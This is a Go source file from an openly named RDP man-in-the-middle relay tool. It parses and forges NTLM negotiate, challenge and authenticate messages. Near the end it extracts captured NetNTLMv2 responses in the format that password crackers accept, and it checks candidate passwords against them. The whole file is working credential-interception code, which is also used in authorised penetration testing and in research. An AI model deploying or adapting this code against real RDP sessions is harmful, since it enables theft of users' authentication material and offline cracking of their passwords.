// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package rdp

import (
	"bytes"
	"crypto/hmac"
	"crypto/md5"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"
	"time"

	"golang.org/x/crypto/md4"

	"github.com/x-stp/rdp-mitm-go/pkg/rdp/codec"
)

var ntlmSignature = []byte("NTLMSSP\x00")

// NTLM message types
const (
	NTLM_NEGOTIATE    = 1
	NTLM_CHALLENGE    = 2
	NTLM_AUTHENTICATE = 3
)

// NTLM negotiate flags (MS-NLMP 2.2.2.5)
const (
	NTLMSSP_NEGOTIATE_UNICODE                  = 0x00000001
	NTLMSSP_REQUEST_TARGET                     = 0x00000004
	NTLMSSP_NEGOTIATE_SIGN                     = 0x00000010
	NTLMSSP_NEGOTIATE_SEAL                     = 0x00000020
	NTLMSSP_NEGOTIATE_NTLM                     = 0x00000200
	NTLMSSP_NEGOTIATE_ALWAYS_SIGN              = 0x00008000
	NTLMSSP_TARGET_TYPE_DOMAIN                 = 0x00010000
	NTLMSSP_NEGOTIATE_EXTENDED_SESSIONSECURITY = 0x00080000
	NTLMSSP_NEGOTIATE_TARGET_INFO              = 0x00800000
	NTLMSSP_NEGOTIATE_VERSION                  = 0x02000000
	NTLMSSP_NEGOTIATE_128                      = 0x20000000
	NTLMSSP_NEGOTIATE_KEY_EXCH                 = 0x40000000
	NTLMSSP_NEGOTIATE_56                       = 0x80000000
)

// AV_PAIR ids used in the challenge target info
const (
	msvAvEOL             = 0x0000
	msvAvNbComputerName  = 0x0001
	msvAvNbDomainName    = 0x0002
	msvAvDnsComputerName = 0x0003
	msvAvDnsDomainName   = 0x0004
	msvAvTimestamp       = 0x0007
)

// Windows 6.1 build 7601, NTLM revision 15
var ntlmVersion = []byte{0x06, 0x01, 0xb1, 0x1d, 0x00, 0x00, 0x00, 0x0f}

func readNTLMHeader(data []byte, want uint32) (*codec.Reader, error) {
	if !bytes.HasPrefix(data, ntlmSignature) {
		return nil, fmt.Errorf("%w: invalid NTLM signature", codec.ErrMalformed)
	}
	r := codec.NewReader(data)
	_ = r.Skip(len(ntlmSignature))
	msgType, err := r.Uint32LE()
	if err != nil {
		return nil, err
	}
	if msgType != want {
		return nil, fmt.Errorf("%w: NTLM message type %d, want %d", codec.ErrMalformed, msgType, want)
	}
	return r, nil
}

// readNTLMField reads a (len, maxLen, offset) descriptor and returns the
// referenced bytes of msg.
func readNTLMField(r *codec.Reader, msg []byte) ([]byte, error) {
	length, err := r.Uint16LE()
	if err != nil {
		return nil, err
	}
	if _, err := r.Uint16LE(); err != nil {
		return nil, err
	}
	offset, err := r.Uint32LE()
	if err != nil {
		return nil, err
	}
	end := uint64(offset) + uint64(length)
	if end > uint64(len(msg)) {
		return nil, fmt.Errorf("%w: NTLM field %d+%d beyond %d bytes", codec.ErrTruncated, offset, length, len(msg))
	}
	return msg[offset:end], nil
}

func writeNTLMField(buf *bytes.Buffer, length, offset int) {
	binary.Write(buf, binary.LittleEndian, uint16(length))
	binary.Write(buf, binary.LittleEndian, uint16(length))
	binary.Write(buf, binary.LittleEndian, uint32(offset))
}

// NTLMNegotiate is the client's first NTLM message.
type NTLMNegotiate struct {
	Flags uint32
}

func ParseNTLMNegotiate(data []byte) (*NTLMNegotiate, error) {
	r, err := readNTLMHeader(data, NTLM_NEGOTIATE)
	if err != nil {
		return nil, err
	}
	flags, err := r.Uint32LE()
	if err != nil {
		return nil, err
	}
	return &NTLMNegotiate{Flags: flags}, nil
}

func (n *NTLMNegotiate) Encode() []byte {
	const headerSize = 32 + 8
	buf := new(bytes.Buffer)
	buf.Write(ntlmSignature)
	binary.Write(buf, binary.LittleEndian, uint32(NTLM_NEGOTIATE))
	binary.Write(buf, binary.LittleEndian, n.Flags)
	writeNTLMField(buf, 0, headerSize) // domain
	writeNTLMField(buf, 0, headerSize) // workstation
	buf.Write(ntlmVersion)
	return buf.Bytes()
}

// NTLMChallenge is the server's CHALLENGE message.
type NTLMChallenge struct {
	Flags           uint32
	ServerChallenge [8]byte
	TargetName      string
	TargetInfo      []byte
}

// NewNTLMChallenge builds a challenge answering a client negotiate with the
// given server challenge, advertising name as both NetBIOS domain and host.
func NewNTLMChallenge(negotiate *NTLMNegotiate, serverChallenge [8]byte, name string, now time.Time) *NTLMChallenge {
	flags := uint32(NTLMSSP_NEGOTIATE_UNICODE | NTLMSSP_REQUEST_TARGET | NTLMSSP_NEGOTIATE_NTLM |
		NTLMSSP_NEGOTIATE_ALWAYS_SIGN | NTLMSSP_TARGET_TYPE_DOMAIN | NTLMSSP_NEGOTIATE_EXTENDED_SESSIONSECURITY |
		NTLMSSP_NEGOTIATE_TARGET_INFO | NTLMSSP_NEGOTIATE_VERSION)
	if negotiate != nil {
		flags |= negotiate.Flags & (NTLMSSP_NEGOTIATE_SIGN | NTLMSSP_NEGOTIATE_SEAL |
			NTLMSSP_NEGOTIATE_128 | NTLMSSP_NEGOTIATE_56 | NTLMSSP_NEGOTIATE_KEY_EXCH)
	}

	var info bytes.Buffer
	writeAV := func(id uint16, value []byte) {
		binary.Write(&info, binary.LittleEndian, id)
		binary.Write(&info, binary.LittleEndian, uint16(len(value)))
		info.Write(value)
	}
	encodedName := codec.EncodeUTF16LE(name)
	writeAV(msvAvNbDomainName, encodedName)
	writeAV(msvAvNbComputerName, encodedName)
	writeAV(msvAvDnsDomainName, encodedName)
	writeAV(msvAvDnsComputerName, encodedName)
	ts := make([]byte, 8)
	binary.LittleEndian.PutUint64(ts, fileTime(now))
	writeAV(msvAvTimestamp, ts)
	writeAV(msvAvEOL, nil)

	return &NTLMChallenge{
		Flags:           flags,
		ServerChallenge: serverChallenge,
		TargetName:      name,
		TargetInfo:      info.Bytes(),
	}
}

// fileTime converts t to 100ns intervals since January 1, 1601.
func fileTime(t time.Time) uint64 {
	return uint64(t.UnixNano()/100) + 116444736000000000
}

func ParseNTLMChallenge(data []byte) (*NTLMChallenge, error) {
	r, err := readNTLMHeader(data, NTLM_CHALLENGE)
	if err != nil {
		return nil, err
	}
	target, err := readNTLMField(r, data)
	if err != nil {
		return nil, fmt.Errorf("challenge target name: %w", err)
	}
	c := &NTLMChallenge{}
	if c.Flags, err = r.Uint32LE(); err != nil {
		return nil, err
	}
	sc, err := r.Bytes(8)
	if err != nil {
		return nil, err
	}
	copy(c.ServerChallenge[:], sc)
	if err := r.Skip(8); err != nil {
		return nil, err
	}
	if c.TargetInfo, err = readNTLMField(r, data); err != nil {
		return nil, fmt.Errorf("challenge target info: %w", err)
	}
	c.TargetName = decodeNTLMString(target, c.Flags)
	return c, nil
}

func (c *NTLMChallenge) Encode() []byte {
	const headerSize = 48 + 8
	name := codec.EncodeUTF16LE(c.TargetName)

	buf := new(bytes.Buffer)
	buf.Write(ntlmSignature)
	binary.Write(buf, binary.LittleEndian, uint32(NTLM_CHALLENGE))
	writeNTLMField(buf, len(name), headerSize)
	binary.Write(buf, binary.LittleEndian, c.Flags)
	buf.Write(c.ServerChallenge[:])
	buf.Write(make([]byte, 8))
	writeNTLMField(buf, len(c.TargetInfo), headerSize+len(name))
	buf.Write(ntlmVersion)
	buf.Write(name)
	buf.Write(c.TargetInfo)
	return buf.Bytes()
}

// NTLMAuthenticate is the client's AUTHENTICATE message.
type NTLMAuthenticate struct {
	Flags                  uint32
	LmChallengeResponse    []byte
	NtChallengeResponse    []byte
	Domain                 string
	User                   string
	Workstation            string
	EncryptedRandomSession []byte
}

func ParseNTLMAuthenticate(data []byte) (*NTLMAuthenticate, error) {
	r, err := readNTLMHeader(data, NTLM_AUTHENTICATE)
	if err != nil {
		return nil, err
	}
	var fields [6][]byte
	names := [6]string{"LM response", "NT response", "domain", "user", "workstation", "session key"}
	for i := range fields {
		if fields[i], err = readNTLMField(r, data); err != nil {
			return nil, fmt.Errorf("authenticate %s: %w", names[i], err)
		}
	}
	a := &NTLMAuthenticate{
		LmChallengeResponse:    fields[0],
		NtChallengeResponse:    fields[1],
		EncryptedRandomSession: fields[5],
	}
	if a.Flags, err = r.Uint32LE(); err != nil {
		return nil, err
	}
	a.Domain = decodeNTLMString(fields[2], a.Flags)
	a.User = decodeNTLMString(fields[3], a.Flags)
	a.Workstation = decodeNTLMString(fields[4], a.Flags)
	return a, nil
}

// Encode lays the payload out after a 64-byte header and the version field.
func (a *NTLMAuthenticate) Encode() []byte {
	encode := func(s string) []byte {
		if a.Flags&NTLMSSP_NEGOTIATE_UNICODE != 0 {
			return codec.EncodeUTF16LE(s)
		}
		return []byte(s)
	}
	payload := [][]byte{
		a.LmChallengeResponse,
		a.NtChallengeResponse,
		encode(a.Domain),
		encode(a.User),
		encode(a.Workstation),
		a.EncryptedRandomSession,
	}

	buf := new(bytes.Buffer)
	buf.Write(ntlmSignature)
	binary.Write(buf, binary.LittleEndian, uint32(NTLM_AUTHENTICATE))
	offset := 64 + len(ntlmVersion)
	for _, p := range payload {
		writeNTLMField(buf, len(p), offset)
		offset += len(p)
	}
	binary.Write(buf, binary.LittleEndian, a.Flags)
	buf.Write(ntlmVersion)
	for _, p := range payload {
		buf.Write(p)
	}
	return buf.Bytes()
}

func decodeNTLMString(b []byte, flags uint32) string {
	if flags&NTLMSSP_NEGOTIATE_UNICODE == 0 {
		return string(b)
	}
	s, err := codec.DecodeUTF16LE(b)
	if err != nil {
		return string(b)
	}
	return s
}

// IsNTLMv2 reports whether the NT response is an NTLMv2 response
// (16-byte proof followed by a client blob).
func (a *NTLMAuthenticate) IsNTLMv2() bool {
	return len(a.NtChallengeResponse) > 24
}

// NetNTLMv2 formats the captured response as user::domain:challenge:proof:blob,
// the format password crackers accept.
func (a *NTLMAuthenticate) NetNTLMv2(serverChallenge [8]byte) (string, error) {
	if !a.IsNTLMv2() {
		return "", fmt.Errorf("%w: NT response of %d bytes is not NTLMv2", ErrUnsupported, len(a.NtChallengeResponse))
	}
	return fmt.Sprintf("%s::%s:%s:%s:%s",
		a.User,
		a.Domain,
		hex.EncodeToString(serverChallenge[:]),
		hex.EncodeToString(a.NtChallengeResponse[:16]),
		hex.EncodeToString(a.NtChallengeResponse[16:]),
	), nil
}

// NTOWFv2 derives the NTLMv2 response key from a password.
func NTOWFv2(password, user, domain string) []byte {
	h := md4.New()
	h.Write(codec.EncodeUTF16LE(password))
	ntHash := h.Sum(nil)

	hm := hmac.New(md5.New, ntHash)
	hm.Write(codec.EncodeUTF16LE(strings.ToUpper(user) + domain))
	return hm.Sum(nil)
}

// ComputeNTProof returns HMAC-MD5(key, serverChallenge || blob).
func ComputeNTProof(responseKey []byte, serverChallenge [8]byte, blob []byte) []byte {
	hm := hmac.New(md5.New, responseKey)
	hm.Write(serverChallenge[:])
	hm.Write(blob)
	return hm.Sum(nil)
}

// VerifyNetNTLMv2 checks a captured response against a candidate password.
func VerifyNetNTLMv2(a *NTLMAuthenticate, serverChallenge [8]byte, password string) bool {
	if !a.IsNTLMv2() {
		return false
	}
	key := NTOWFv2(password, a.User, a.Domain)
	proof := ComputeNTProof(key, serverChallenge, a.NtChallengeResponse[16:])
	return hmac.Equal(proof, a.NtChallengeResponse[:16])
}
